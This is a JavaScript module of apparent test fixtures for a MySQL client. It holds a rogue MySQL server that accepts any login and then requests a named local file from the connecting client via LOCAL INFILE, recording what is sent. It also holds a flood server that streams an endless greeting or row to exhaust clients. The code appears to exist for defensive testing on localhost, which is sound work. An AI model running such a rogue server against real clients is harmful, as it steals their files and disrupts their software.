// A listener with enough of MySQL's protocol to accept every login. It then asks for a file of the client.
// after      how many commands it answers with OK before it asks
// startFlood sends a row, or its greeting, without end.
// Example    const rogue = await startRogue({ file: canary, after: 1 });  ... rogue.received() holds what clients sent
//            after the request
import net from "node:net";

const packet = (sequence, body) => {
  const head = Buffer.alloc(4);
  head.writeUIntLE(body.length, 0, 3);
  head[3] = sequence;
  return Buffer.concat([head, body]);
};
const kOk = Buffer.from([0, 0, 0, 2, 0, 0, 0]);

function greeting() {
  const salt = Buffer.from("abcdefghijklmnopqrst");
  const flags = 0x000fa68f | 0x00080000; // with LOCAL FILES and plugin logins, without encryption
  const low = Buffer.alloc(2);
  low.writeUInt16LE(flags & 0xffff);
  const high = Buffer.alloc(2);
  high.writeUInt16LE(flags >>> 16);
  return Buffer.concat([
    Buffer.from([10]),
    Buffer.from("8.0.0\0"),
    Buffer.from([1, 0, 0, 0]),
    salt.subarray(0, 8),
    Buffer.from([0]),
    low,
    Buffer.from([45, 2, 0]),
    high,
    Buffer.from([21]),
    Buffer.alloc(10),
    salt.subarray(8),
    Buffer.from("\0mysql_native_password\0"),
  ]);
}

export async function startRogue({ file, after = 0 }) {
  let received = "";
  const sockets = new Set();
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.on("error", () => {});
    let commands = -1; // the login comes first
    let asked = false;
    socket.write(packet(0, greeting()));
    socket.on("data", (chunk) => {
      if (asked) received += chunk.toString("latin1");
      else if (commands < 0) socket.write(packet(chunk[3] + 1, kOk));
      else if (commands < after) socket.write(packet(1, kOk));
      else {
        asked = true;
        socket.write(packet(1, Buffer.concat([Buffer.from([0xfb]), Buffer.from(file)])));
        setTimeout(() => socket.write(packet(3, kOk)), 100).unref();
      }
      commands += 1;
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: server.address().port,
    received: () => received,
    stop: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(resolve);
      }),
  };
}

/** With login it never ends its greeting; without, it prepares nothing and answers a statement with one endless row. */
export async function startFlood({ login = false } = {}) {
  const sockets = new Set();
  const longest = Buffer.concat([Buffer.from([0xff, 0xff, 0xff, 1]), Buffer.alloc(0xffffff, 0x61)]);
  const flood = (socket, first) => {
    let sequence = first;
    const more = () => {
      while (!socket.destroyed) {
        longest[3] = sequence++ & 0xff;
        if (!socket.write(Buffer.from(longest))) return socket.once("drain", more);
      }
    };
    more();
  };
  const refusal = Buffer.concat([Buffer.from([0xff, 0x0f, 0x05]), Buffer.from("#HY000not preparable")]); // 1295
  const column = Buffer.concat([
    ...["def", "", "", "", "v", "v"].map((name) => Buffer.concat([Buffer.from([name.length]), Buffer.from(name)])),
    Buffer.from([0x0c, 45, 0, 0xff, 0xff, 0xff, 0x7f, 0xfb, 0, 0, 0, 0, 0]),
  ]);
  const end = Buffer.from([0xfe, 0, 0, 2, 0]);
  const server = net.createServer((socket) => {
    sockets.add(socket);
    socket.on("error", () => {});
    if (login) return flood(socket, 0);
    let ready = false;
    socket.write(packet(0, greeting()));
    socket.on("data", (chunk) => {
      const command = chunk[4];
      if (!ready) {
        ready = true;
        socket.write(packet(chunk[3] + 1, kOk));
      } else if (command === 0x16) {
        socket.write(packet(1, refusal));
      } else if (command === 3 && chunk.subarray(5, 11).toString() === "select") {
        const body = [packet(1, Buffer.from([1])), packet(2, column), packet(3, end)];
        socket.write(Buffer.concat(body));
        flood(socket, 4);
      } else if (command === 3) {
        socket.write(packet(1, kOk));
      }
    });
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: server.address().port,
    stop: () =>
      new Promise((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(resolve);
      }),
  };
}
